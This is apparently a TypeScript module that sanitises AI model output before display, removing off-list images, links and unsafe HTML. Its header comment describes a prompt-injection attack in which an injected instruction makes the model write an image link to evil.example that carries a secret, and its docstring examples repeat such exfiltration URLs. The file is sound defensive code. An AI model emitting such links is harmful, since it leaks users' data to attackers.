import { failClosed } from './errors.js';
import { Escaper } from './sanitize-escape.js';
import {
  CONSTRUCT_AT,
  CONSTRUCTS,
  OPENERS,
  OpenConstructs,
  SANITIZE_HOLD_BACK,
} from './sanitize-grammar.js';

/**
 * Output sanitising for display. A model answer rendered as markdown can leak data without a
 * click: an injected instruction makes the model write `![](https://evil.example/?q=<secret>)`
 * and the client fetches the image. Images, links, reference definitions and autolinks to hosts
 * not on the allow-list are therefore neutralised (the visible text stays, the URL goes), and
 * raw HTML is stripped or, at least, its script blocks and off-list embeds removed. Whatever the
 * rewriting did not verify is then escaped, so that no image or tag it missed can render.
 */

export { SANITIZE_HOLD_BACK };

/** Options of `sanitizeOutput`. */
export interface SanitizeOptions {
  /** Hosts links and images may point to: `docs.mistral.ai`, or `*.example.com` for subdomains. */
  allowedLinkHosts: string[];
  /**
   * Remove every HTML tag, and script, style and comment blocks with their content. When false,
   * only script and style blocks and tags that carry an off-list URL (or no `src` for an embed)
   * are removed, and tags that load something are escaped unless verified.
   */
  stripHtml: boolean;
}

const SRC = /\ssrc\s{0,4}=\s{0,4}["']?([^"'\s>]{1,2048})/i;
const EMBEDS = new Set(['img', 'iframe', 'script', 'object', 'embed', 'video', 'audio', 'source']);
// Characters that never appear in a URL the sanitiser lets through: markdown escapes, quotes,
// brackets and code marks could make a renderer read the construct differently from the
// sanitiser, and entities could hide another host.
const UNSAFE_URL = /[\\`"'<>[\]\t\n\r\f\v]|&(?:#|[A-Za-z][A-Za-z0-9]*;)/;
// URLs inside a tag's attributes, and schemes that run code.
const TAG_URL = /(?:[A-Za-z][A-Za-z0-9+.-]{0,31}:)?\/\/[^\s"'<>)]*|\bhttps?:[^\s"'<>)]*/g;
const SCRIPT_SCHEME = /(?:javascript|vbscript|data)\s*:/i;
// Left context kept for look-behinds: a line break, a line prefix of 64, and the escape check.
const LEFT_CONTEXT = 66;

function hostAllowed(raw: string, allowed: readonly string[]): boolean {
  const url = raw.replaceAll('&amp;', '&');
  if (UNSAFE_URL.test(url)) return false;
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return false;
  }
  if (parsed.protocol !== 'https:' && parsed.protocol !== 'http:') return false;
  const host = parsed.hostname.toLowerCase();
  for (const entry of allowed) {
    const e = entry.toLowerCase();
    if (e.startsWith('*.') ? host.endsWith(e.slice(1)) : host === e) return true;
  }
  return false;
}

// Text a renderer treats as code or markup binds tighter than link brackets, so an allowed link
// is only trusted when its text has neither.
function plainText(text: string): boolean {
  return !text.includes('`') && !text.includes('<');
}

// A kept tag must not carry a URL to an off-list host in any attribute, nor a script scheme.
function tagAllowed(tag: string, name: string, allowed: readonly string[]): boolean {
  if (name === 'script' || SCRIPT_SCHEME.test(tag) || tag.includes('![')) return false;
  const decoded = tag.replaceAll('&amp;', '&');
  if (/[\\]|&(?:#|[A-Za-z][A-Za-z0-9]*;)/.test(decoded)) return false;
  for (const m of decoded.matchAll(TAG_URL)) {
    const url = m[0].startsWith('//') ? `https:${m[0]}` : m[0];
    if (!hostAllowed(url, allowed)) return false;
  }
  if (!EMBEDS.has(name)) return true;
  const src = SRC.exec(tag)?.[1];
  return src !== undefined && hostAllowed(src, allowed);
}

// Writes the match at `index` as kept pieces, except its groups named in `names`, written as
// free text.
function keepAround(index: number, names: readonly string[], text: string, escaper: Escaper): void {
  CONSTRUCT_AT.lastIndex = index;
  const m = CONSTRUCT_AT.exec(text)!;
  const spans = names
    .map((name) => m.indices!.groups![name])
    .filter((span): span is [number, number] => span !== undefined)
    .sort((a, b) => a[0] - b[0]);
  let at = m.index;
  for (const [start, end] of spans) {
    escaper.kept(text.slice(at, start));
    escaper.free(text.slice(start, end));
    at = end;
  }
  escaper.kept(text.slice(at, m.index + m[0].length));
}

// Writes the rewritten form of one construct.
function emit(m: RegExpExecArray, text: string, options: SanitizeOptions, escaper: Escaper): void {
  const g = m.groups!;
  const allowed = options.allowedLinkHosts;
  const url = g.purl ?? g.url;
  if (url !== undefined) {
    const shown = g.text ?? '';
    if (plainText(shown) && hostAllowed(url, allowed)) {
      keepAround(m.index, ['text', 'tq', 'ts', 'tp'], text, escaper);
    } else escaper.free(shown);
    return;
  }
  const refUrl = g.rpurl ?? g.rurl;
  if (refUrl !== undefined) {
    if (plainText(g.label ?? '') && hostAllowed(refUrl, allowed)) {
      keepAround(m.index, ['label', 'rq', 'rs', 'rp'], text, escaper);
    }
    return;
  }
  if (g.auto !== undefined) {
    if (hostAllowed(g.auto, allowed)) escaper.kept(m[0]);
    else escaper.free('[link removed]');
    return;
  }
  // A style block may load URLs, and neither its end nor a comment's is where a renderer ends
  // it (a blank line, `<!-->`), so blocks go and a kept comment is escaped like free text.
  if (options.stripHtml || g.block !== undefined) return;
  if (g.comment !== undefined) escaper.free(m[0]);
  else if (tagAllowed(m[0], (g.tag ?? '').toLowerCase(), allowed)) escaper.kept(m[0]);
}

/**
 * Rewrites `text` from `from` on into `escaper`, and returns where it stopped. Matches start at
 * or after `from`; the text before it is only seen by look-behinds. Unless `final`, it stops at
 * the first opener near the end that may still start a construct, or at a match that more text
 * could still change, so that a stream releases nothing a later piece could rewrite.
 */
function rewrite(
  text: string,
  from: number,
  final: boolean,
  options: SanitizeOptions,
  escaper: Escaper,
): number {
  const open = final ? null : new OpenConstructs(text);
  const window = text.length - SANITIZE_HOLD_BACK;
  let at = from;
  CONSTRUCTS.lastIndex = from;
  for (;;) {
    const m = CONSTRUCTS.exec(text);
    const limit = m ? m.index : text.length;
    if (open) {
      OPENERS.lastIndex = Math.max(at, window);
      for (let o = OPENERS.exec(text); o !== null && o.index < limit; o = OPENERS.exec(text)) {
        if (!open.mayStart(o.index)) continue;
        escaper.free(text.slice(at, o.index));
        return o.index;
      }
      if (m && open.mayChange(m)) {
        escaper.free(text.slice(at, m.index));
        return m.index;
      }
    }
    escaper.free(text.slice(at, limit));
    if (!m) return text.length;
    emit(m, text, options, escaper);
    at = m.index + m[0].length;
    CONSTRUCTS.lastIndex = at;
  }
}

/**
 * Neutralises off-list links and images and unsafe HTML in a model answer before display.
 *
 * @example
 * sanitizeOutput('![x](https://evil.example/p.png?q=secret)', { allowedLinkHosts: [], stripHtml: true })
 * // 'x'
 */
export function sanitizeOutput(text: string, options: SanitizeOptions): string {
  return failClosed(() => {
    const escaper = new Escaper(options.stripHtml);
    rewrite(text, 0, true, options, escaper);
    return escaper.end();
  });
}

/** Sanitiser for an answer that arrives in pieces; see `createOutputSanitizer`. */
export interface StreamSanitizer {
  push(piece: string): string;
  end(): string;
}

/**
 * Creates a streaming sanitiser whose output, concatenated, equals `sanitizeOutput` of the whole
 * text. Plain prose streams through at once, an exclamation mark or a bracket included; the text
 * is held only from an opener that may still become a construct: a `!` before `[` or at the end,
 * a `[` whose `]` has not come yet or is followed by `(` or `:` (a redaction placeholder such as
 * `[REDACTED:EMAIL]` therefore only until the next character), a `<` that may still open a tag,
 * comment or autolink. Such a hold ends when the construct completes or can no longer be one, at
 * most `SANITIZE_HOLD_BACK` characters (about 5.2K) later.
 *
 * While something is held, a push looks again only once the held text has grown by an eighth,
 * which keeps the work linear in the input; the hold-back is therefore bounded by
 * `SANITIZE_HOLD_BACK` * 9 / 8 plus the last piece, and by 10 more characters of output that
 * wait to show whether a `<` opens a tag.
 *
 * @example
 * const s = createOutputSanitizer({ allowedLinkHosts: ['docs.mistral.ai'], stripHtml: true });
 * s.push('see ![a](https://evil.exa') + s.push('mple/x.png)') + s.end(); // 'see a'
 */
export function createOutputSanitizer(options: SanitizeOptions): StreamSanitizer {
  const escaper = new Escaper(options.stripHtml);
  let context = '';
  let pending = '';
  let heldAfterLook = 0;
  let grown = 0;
  const release = (final: boolean): string => {
    const text = context + pending;
    const stop = rewrite(text, context.length, final, options, escaper);
    context = text.slice(Math.max(0, stop - LEFT_CONTEXT), stop);
    pending = text.slice(stop);
    heldAfterLook = pending.length;
    grown = 0;
    return final ? escaper.end() : escaper.take();
  };
  return {
    push(piece) {
      pending += piece;
      grown += piece.length;
      if (grown === 0 || grown < heldAfterLook >> 3) return '';
      return failClosed(() => release(false));
    },
    end() {
      return failClosed(() => release(true));
    },
  };
}

/**
 * Sanitises an async stream of answer pieces.
 *
 * @example
 * for await (const safe of sanitizeStream(pieces, options)) res.write(safe);
 */
export async function* sanitizeStream(
  pieces: AsyncIterable<string>,
  options: SanitizeOptions,
): AsyncIterable<string> {
  const sanitizer = createOutputSanitizer(options);
  for await (const piece of pieces) {
    const out = sanitizer.push(piece);
    if (out.length > 0) yield out;
  }
  const rest = sanitizer.end();
  if (rest.length > 0) yield rest;
}
